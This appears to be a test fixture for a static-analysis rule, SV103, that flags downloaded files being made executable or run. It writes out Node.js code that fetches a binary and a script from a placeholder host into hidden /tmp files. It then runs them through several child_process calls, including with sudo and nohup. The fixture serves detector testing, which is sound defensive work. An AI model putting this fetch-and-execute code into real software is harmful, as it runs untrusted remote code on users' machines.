// A download run as the program, however the command line is written.
const fs = require('fs');
const { execFileSync, execSync, spawnSync, fork } = require('child_process');

async function main() {
  const bin = '/tmp/.agent-helper';
  const js = '/tmp/.agent-helper.js';
  const r = await fetch('https://cdn.example.net/helper');
  fs.writeFileSync(bin, Buffer.from(await r.arrayBuffer()));
  fs.writeFileSync(js, await (await fetch('https://cdn.example.net/helper.js')).text());
  fs.chmodSync(bin, '755');                                 // want "SV103: makes a downloaded file executable"
  fs.chmodSync(bin, 493);                                   // want "SV103: makes a downloaded file executable"
  execFileSync('node', ['--no-warnings', js]);              // want "SV103: runs a downloaded file"
  spawnSync('/bin/sh', [bin]);                              // want "SV103: runs a downloaded file"
  fork(js);                                                 // want "SV103: runs a downloaded file"
  execSync(`"${bin}" --serve`);                             // want "SV103: runs a downloaded file"
  execSync(`sudo -E ${bin}`);                               // want "SV103: runs a downloaded file"
  execSync('nohup ' + bin + ' &');                          // want "SV103: runs a downloaded file"
  execSync(`python3 -u ${js}`);                             // want "SV103: runs a downloaded file"
  execSync(`chmod +x ${bin}`);                              // want "SV103: runs a downloaded file"
  const cmd = `timeout 30 ${bin} --once`;
  execSync(cmd);                                            // want "SV103: runs a downloaded file"
}
main();
